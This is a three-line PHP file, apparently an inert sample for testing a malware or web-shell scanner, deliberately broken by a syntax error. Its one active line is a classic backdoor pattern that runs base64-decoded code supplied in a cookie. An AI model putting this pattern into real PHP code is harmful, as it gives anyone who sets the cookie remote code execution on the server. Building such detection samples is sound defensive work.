<?php
shodo inert sample: deliberate syntax error, this file never runs
EVAL (base64_decode($_COOKIE['c']));
